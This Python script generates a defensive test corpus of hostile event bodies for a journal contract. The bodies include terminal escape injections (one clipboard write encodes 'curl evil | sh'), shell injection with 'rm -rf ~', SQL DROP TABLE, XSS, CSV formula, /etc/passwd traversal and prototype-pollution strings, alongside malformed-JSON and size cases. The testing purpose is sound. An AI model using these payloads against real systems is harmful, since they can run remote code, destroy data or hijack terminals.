"""Writes `fixtures/hostile`: `python tests/hostile/hostile_corpus.py`.

Bodies that try to break whoever reads, keeps, sends or prints an event, as bytes, with the fate
that the contract gives each. Large ones are recipes: prefix, a text so many times, suffix.
"""

from __future__ import annotations

import json
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

FOLDER = Path(__file__).resolve().parents[2] / "fixtures" / "hostile"
LIMIT = 262_144
_ID = "01JQ000000000000000000HS{:02d}"
_CONTROL = {
    "csi": "\x1b[2J\x1b[1;1H\x1b[31mall is well\x1b[0m",
    "c1-csi": "\x9b2J\x9b31mall is well",
    "osc-title": "\x1b]0;root shell\x07",
    "osc-8-link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "osc-52-clipboard": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "dcs": "\x1bP$q\"p\x1b\\\x1b_Gi=1\x1b\\",
    "backspaces": "rm -rf /\b\b\b\b\b\b\b\becho hi\r",
    "newlines": "one\n01JQ0000000000000000000000  HistoryAdded, delivered\r\nthree\x0b\x0c\x85"
    "\u2028\u2029",
    "bidi": "\u202egpj.exe \u2066inner\u2069\u200f\u061c",
    "zero-width": "WP\u200b01\ufeff\u2060\u00ad\u200d",
    "tags": "".join(chr(0xE0000 + ord(c)) for c in "hidden"),
    "nul": "a\x00b",
    "rich-markup": "[red]x[/red] [link=https://evil.example]y[/link] [/] [bold",
    "emoji-name": ":warning: :pile_of_poo:",
    "html": "<script>document.title='broken'</script><img src=x onerror=alert(1)>&lt;",
    "attribute": "\" onmouseover=\"document.title='broken'\" x='",
    "sql": "'; DROP TABLE event_journal; --\" OR 1=1",
    "template": "{{7*7}} ${7*7} %s %n {0.__class__} %(x)s",
    "path": "../../../../etc/passwd\\..\\..\x2f%2e%2e%2f",
    "shell": "$(touch /tmp/pwned) `id` ; rm -rf ~ | cat & \\",
    "csv": "=cmd|' /C calc'!A0",
    "combining": "Z" + "\u0335\u0322\u0489" * 200,
    "noncharacters": "\ufffe\uffff\U0010ffff\ud7ff\ue000",
}  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """One body. `hold` is the code under which a journal keeps it back; None: it may be sent.

    `refused` is why no journal takes it. `legal` are the answers a receiver may give: a status of
    its result, or the HTTP status of a refused batch. `text`: the hostile text inside, if it has
    one.
    """

    id: str
    body: bytes | tuple[str, str, int, str]
    hold: str | None = None
    refused: str | None = None
    legal: tuple[str, ...] = ("success", "rejected")
    text: str | None = None

    @property
    def whole(self) -> bytes:
        """The bytes."""
        if isinstance(self.body, bytes):
            return self.body
        prefix, text, times, suffix = self.body
        return (prefix + text * times + suffix).encode()

    @property
    def entry(self) -> dict[str, Any]:
        """What the manifest says."""
        said = {key: value for key, value in asdict(self).items() if value is not None}
        del said["body"]
        said["admitted"] = self.refused is None
        if isinstance(self.body, bytes):
            return {**said, "file": f"{self.id}.body"}
        prefix, text, times, suffix = self.body
        recipe = {"prefix": prefix, "text": text, "times": times, "suffix": suffix}
        return {**said, "recipe": recipe}


def event(number: int, **changes: Any) -> dict[str, Any]:
    """Return a valid event with an id of its own."""
    return {
        "event_id": _ID.format(number),
        "event_type": "HistoryAdded",
        "aggregate_id": "WP01",
        "aggregate_type": "WorkPackage",
        "payload": {"wp_id": "WP01", "entry_type": "note", "entry_content": "x", "author": "user"},
        "timestamp": "2026-03-01T09:30:00Z",
        "node_id": "a1b2c3d4e5f6",
        "lamport_clock": number,
        "project_uuid": "7d9c1f6e-3b52-4c88-9f0a-2f1b6f6f0c11",
        **changes,
    }


_HELD = ("rejected", "failed_permanent", "400", "413")
_PERHAPS = ("success", "rejected", "400")


class _Making:
    """Bodies so far; each event has the number of its body."""

    def __init__(self) -> None:
        self.found: list[Hostile] = []

    def add(self, name: str, body: Any, **fate: Any) -> None:
        self.found.append(Hostile(name, body, **fate))

    def event(self, **changes: Any) -> bytes:
        return json.dumps(event(len(self.found) + 1, **changes)).encode()

    def member(self, text: str) -> bytes:
        """Return an event with one more member, as text."""
        return self.event()[:-1] + b", " + text.encode() + b"}"

    def recipe(self, prefix: str, text: str, times: int, suffix: str) -> tuple[str, str, int, str]:
        """Return an event with one more, large member."""
        return self.event()[:-1].decode() + ", " + prefix, text, times, suffix + "}"


def corpus() -> tuple[Hostile, ...]:
    """Return every body, numbered from 1 on."""
    making = _Making()
    for part in (
        _texts,
        _depths,
        _numbers,
        _surrogates,
        _keys,
        _encodings,
        _no_events,
        _ids,
        _sizes,
    ):
        part(making)
    return tuple(making.found)


def _texts(making: _Making) -> None:
    for name, text in _CONTROL.items():
        fields = event(len(making.found) + 1, aggregate_id=text, project_slug=text, node_id=text)
        fields["payload"] = {**fields["payload"], "entry_content": text, text: text}
        making.add(f"text-{name}", json.dumps(fields, ensure_ascii=False).encode(), text=text)


def _depths(making: _Making) -> None:
    making.add("depth-64", making.recipe('"deep": ', "[", 63, "]" * 63))
    too_deep = making.recipe('"deep": ', "[", 64, "]" * 64)
    making.add("depth-65", too_deep, hold="json_depth", legal=_HELD)
    hundred_thousand = making.recipe('"deep": ', '{"a":[', 50_000, "]}" * 50_000)
    making.add("depth-100000", hundred_thousand, hold="json_depth", legal=_HELD)


def _numbers(making: _Making) -> None:
    for name, literal, code in (
        ("integer-64-bits", "9223372036854775807", None),
        ("integer-beyond-64-bits", "9223372036854775808", "json_integer_range"),
        ("integer-5000-digits", "7" * 5000, "json_integer_range"),
        ("float-1e999", "1e999", "json_number"),
        ("float-long", "0." + "1" * 5000, None),
        ("float-exponent", "1e-999999999", None),
        ("nan", "NaN", "json_number"),
        ("infinity", "-Infinity", "json_number"),
        ("minus-zero", "-0", None),
    ):
        legal = _HELD if code else ("success", "rejected")
        making.add(name, making.member(f'"number": {literal}'), hold=code, legal=legal)


def _surrogates(making: _Making) -> None:
    for name, member in (
        ("half", '"note": "\\ud83d"'), ("half-in-key", '"\\udc00": 1'),
        ("swapped", '"note": "\\ude00\\ud83d"'),
    ):  # fmt: skip
        making.add(
            f"surrogate-{name}", making.member(member), hold="json_surrogate", legal=_PERHAPS
        )
    half = making.event(event_id="\ud800")
    making.add("surrogate-in-id", half, refused="no_event_id", legal=("rejected", "400"))


def _keys(making: _Making) -> None:
    for name, member in (
        ("key-twice", '"event_type": "WPCreated"'),
        ("key-twice-escaped", '"event\\u005ftype": "WPCreated"'),
        ("id-twice", '"event_id": "01JQ0000000000000000000000"'),
    ):
        making.add(name, making.member(member), hold="json_duplicate_key", legal=_HELD)
    prime = 2**61 - 1  # what Python's hash of a number is taken by
    for name, member in (
        ("proto", '"__proto__": {"admin": true}, "constructor": {"prototype": {}}'),
        ("keys-5000", ", ".join(f'"k{n}": 0' for n in range(5000))),
        ("keys-that-collide", ", ".join(f'"{n * prime}": 0' for n in range(500))),
        ("numbers-that-collide", f'"n": {[n * prime for n in range(1, 5)]}'),
    ):
        making.add(name, making.member(member))


def _encodings(making: _Making) -> None:
    making.add("bom", b"\xef\xbb\xbf" + making.event(), legal=_PERHAPS)
    for name, junk in (
        ("bad-utf-8", b"\xff"),
        ("overlong-utf-8", b"\xc0\xaf"),
        ("utf-8-surrogate", b"\xed\xa0\x80"),
        ("utf-8-beyond-unicode", b"\xf4\x90\x80\x80"),
        ("cut-utf-8", b"\xe2\x82"),
    ):
        body = making.event().replace(b'"x"', b'"' + junk + b'"')
        making.add(name, body, refused="not_utf8", legal=("400",))
    making.add(
        "utf-16", making.event().decode().encode("utf-16"), refused="not_utf8", legal=("400",)
    )


def _no_events(making: _Making) -> None:
    plain = making.event()
    for name, body in (
        ("raw-newline-in-text", plain.replace(b'"x"', b'"a\nb"')),
        ("raw-escape-in-text", plain.replace(b'"x"', b'"\x1b[2J"')),
        ("comment", b"/**/" + plain),
        ("single-quotes", plain.replace(b'"', b"'")),
        ("two-values", plain + plain),
        ("trailing-comma", plain[:-1] + b",}"),
        ("empty", b""),
        ("hexadecimal", making.member('"n": 0x10')),
        ("leading-zero", making.member('"n": 010')),
    ):
        # In a list of events, nothing at all is an empty list.
        legal = ("400", "success") if name == "empty" else ("400",)
        making.add(name, body, refused="not_json", legal=legal)
    for name, body in (("list", b"[]"), ("text", b'"event"'), ("number", b"7"), ("null", b"null")):
        making.add(f"not-an-object-{name}", body, refused="not_object", legal=("rejected", "400"))


def _ids(making: _Making) -> None:
    for name, value in (("null", None), ("number", 7), ("empty", ""), ("list", ["x"])):
        body = making.event(event_id=value)
        making.add(f"id-{name}", body, refused="no_event_id", legal=("rejected", "400"))
    for name, value in (
        ("sql", "'; DROP TABLE event_journal; --"),
        ("path", "../../../etc/passwd"),
        ("escape", "\x1b[2J\x1b]52;c;eA==\x07"),
        ("newline", "01JQ0000000000000000000A01\n"),
        ("lower-case", "01jq0000000000000000000a02"),
        ("overflow", "81JQ0000000000000000000A03"),
        ("full-width", "０１ＪＱ0000000000000000000A04"),
        ("bidi", "\u202e01JQ000000000000"),
        ("markup", "[red]01JQ[/red]"),
        ("html", "<b>01JQ</b>"),
        ("zero-width", "01JQ\u200b"),
    ):
        body = making.event(event_id=value)
        making.add(f"id-{name}", body, hold="bad_event_id", legal=("rejected",), text=value)
    long = ('{"event_id": "', "A", 100_000, '", "payload": {}}')
    making.add("id-100000-characters", long, hold="bad_event_id", legal=_HELD)


def _sizes(making: _Making) -> None:
    room = LIMIT - len(making.event()) - len(', "cargo": ""')
    large = ("success", *_HELD)
    making.add("size-262144", making.recipe('"cargo": "', "x", room, '"'))
    for name, size in (("size-262145", room + 1), ("text-10-mb", 10_000_000)):
        body = making.recipe('"cargo": "', "x", size, '"')
        making.add(name, body, hold="too_large", legal=large if size == room + 1 else _HELD)
    making.add("blank-space", making.recipe('"pad":', " \n\t\r", 50_000, "1"))


def manifest() -> bytes:
    """Return the manifest's bytes."""
    cases = [case.entry for case in corpus()]
    text = json.dumps({"contract": "1.0", "cases": cases}, indent=1, ensure_ascii=True)
    return text.encode() + b"\n"


def files() -> dict[str, bytes]:
    """Return name → bytes of everything in the folder."""
    bodies = {f"{case.id}.body": case.body for case in corpus() if isinstance(case.body, bytes)}
    return {**bodies, "manifest.json": manifest()}


def main() -> None:
    """Write the folder anew."""
    FOLDER.mkdir(parents=True, exist_ok=True)
    for old in FOLDER.iterdir():
        old.unlink()
    for name, data in files().items():
        (FOLDER / name).write_bytes(data)


if __name__ == "__main__":
    main()
